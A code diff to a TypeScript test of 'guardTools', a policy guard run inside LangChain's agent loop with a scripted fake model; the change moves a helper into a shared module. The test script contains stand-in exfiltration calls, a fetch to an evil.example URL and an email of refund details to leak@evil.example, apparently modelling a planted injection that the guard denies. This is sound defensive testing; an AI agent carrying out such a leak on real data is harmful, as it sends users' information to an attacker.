@@ -1,11 +1,13 @@
 // `guardTools` driven by LangChain's own agent loop (`createAgent`) and its scripted `fakeModel`: allowed, redacted, voided and retried, denied, reviewed and released by a signed approval, planted.
 import { beforeAll, describe, expect, it } from "vitest";
-import { AIMessage, ToolMessage, type BaseMessage } from "@langchain/core/messages";
+import { AIMessage } from "@langchain/core/messages";
 import { fakeModel } from "@langchain/core/testing";
 import { tool } from "@langchain/core/tools";
 import { createAgent } from "langchain";
 import { createEnforcer, type Decision, type LogEntry, type PolicyModule } from "@apol/runtime";
-import { compiledModule, supportPolicy, toolSchemas } from "../../test/guard/adapter-policies.js";
+import { outputsSeen } from "../../test/guard/langchain-outputs.js";
+import { compiledModule } from "../../test/harness/compiled-module.js";
+import { supportPolicy, toolSchemas } from "../../test/guard/adapter-policies.js";
 import { ed25519Approvers, generateKeys, signApproval } from "../../audit/src/index.js";
 import { z } from "zod";
 import { guardTools, toolSchemaDrift } from "./index.js";
@@ -30,18 +32,6 @@ const script: [string, Record<string, unknown>][] = [
   ["fetch", { url: "https://evil.example/ticket" }],
   ["send_email", { to: "leak@evil.example", body: "refund details" }],
 ];
-
-/** The tool messages the model was sent, their content parsed where it is JSON. */
-function outputsSeen(messages: readonly BaseMessage[]): unknown[] {
-  return messages.filter((m) => ToolMessage.isInstance(m)).map((m) => {
-    const text = String(m.content);
-    try {
-      return JSON.parse(text) as unknown;
-    } catch {
-      return text;
-    }
-  });
-}
 
 describe("guardTools in LangChain's createAgent loop", () => {
   it("guards every call of a multi-step run: the model reads denials and a review, a signed approval releases it, a failed refund is voided and retried", async () => {
